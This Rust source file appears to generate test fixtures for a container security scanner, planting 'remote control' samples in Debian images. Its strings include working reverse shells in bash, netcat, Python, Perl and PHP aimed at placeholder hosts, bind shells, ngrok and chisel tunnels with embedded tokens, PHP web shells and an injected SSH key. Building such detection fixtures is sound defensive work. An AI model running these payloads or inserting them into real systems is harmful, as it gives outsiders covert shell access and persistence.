//! Shells and channels for somebody outside.

use crate::group;
use crate::shape::{Planted, Shape, malicious, suspicious};

fn started(script: &str) -> Planted {
    Planted::debian().script("run.sh", script).entry(&["/run.sh"])
}

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "remote control",
        vec![
            malicious("reverse shell of bash", |s| {
                started(s.pick("#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.11/4444 0>&1\n", "#!/bin/bash\nexec 5<>/dev/tcp/198.51.100.11/443\nwhile read l <&5; do $l 2>&5 >&5; done\n"))
            }),
            malicious("reverse shell of netcat", |s| {
                started(s.pick("#!/bin/sh\nnc -e /bin/sh 198.51.100.11 4444\n", "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.11 443 > /tmp/f\n"))
            }),
            malicious("reverse shell of Python", |s| {
                Planted::debian().entry(&["python3", "-c", s.pick(
                "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.11',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])",
                "import pty,socket,os\ns=socket.create_connection((\"c2.example\",443))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('bash')",
            )])
            }),
            malicious("reverse shell of Perl or PHP", |s| {
                Planted::debian().entry(s.pick(
                &["perl", "-e", "use Socket;$i='198.51.100.11';$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');"][..],
                &["php", "-r", "$s=fsockopen('198.51.100.11',4444);exec('/bin/sh -i <&3 >&3 2>&3');"][..],
            ))
            }),
            suspicious("shell that waits for whoever comes", |s| {
                started(s.pick(
                    "#!/bin/sh\nwhile true; do nc -l -p 4444 -e /bin/sh; done\n",
                    "#!/bin/sh\nsocat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr &\nwait\n",
                ))
            }),
            suspicious("tunnel with a baked-in token", |s| {
                started(s.pick(
                "#!/bin/sh\nngrok config add-authtoken 2abcDEFghiJKLmnoPQRstuVWXyz_1234567890abcdefgh\nngrok tcp 22 &\n/usr/sbin/sshd -D\n",
                "#!/bin/sh\nchisel client --auth u:secretsecret 203.0.113.14:8443 R:2222:127.0.0.1:22 &\n/usr/sbin/sshd -D\n",
            ))
            }),
            suspicious("program wrapped into an onion network", |s| {
                let entry = s.pick(&["proxychains4", "/opt/.a/work"][..], &["torsocks", "/opt/.a/work"][..]);
                Planted::debian().script("opt/.a/work", crate::programs::miner(s)).entry(entry)
            }),
            suspicious("shell behind a web page", |s| {
                let (path, page) = s.pick(
                ("var/www/html/img.php", "<?php @eval(base64_decode($_POST['x'])); ?>\n"),
                ("var/www/html/wp-content/c.php", "<?php if(isset($_REQUEST['c'])){ echo shell_exec(base64_decode($_REQUEST['c'])); } ?>\n"),
            );
                Planted::debian().file(path, page).cmd(&["php", "-S", "0.0.0.0:80", "-t", "/var/www/html"])
            }),
            suspicious("key of a stranger for the shell service that starts", |s| {
                let place = s.pick("root/.ssh/authorized_keys", "home/app/.ssh/authorized_keys");
                Planted::debian()
                .with_mode(place, 0o600, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f root@box\n")
                .script("usr/sbin/sshd", crate::programs::node())
                .script("run.sh", "#!/bin/sh\n/usr/sbin/sshd -D &\nexec python3 -m http.server\n")
                .entry(&["/run.sh"])
            }),
        ],
    )
}
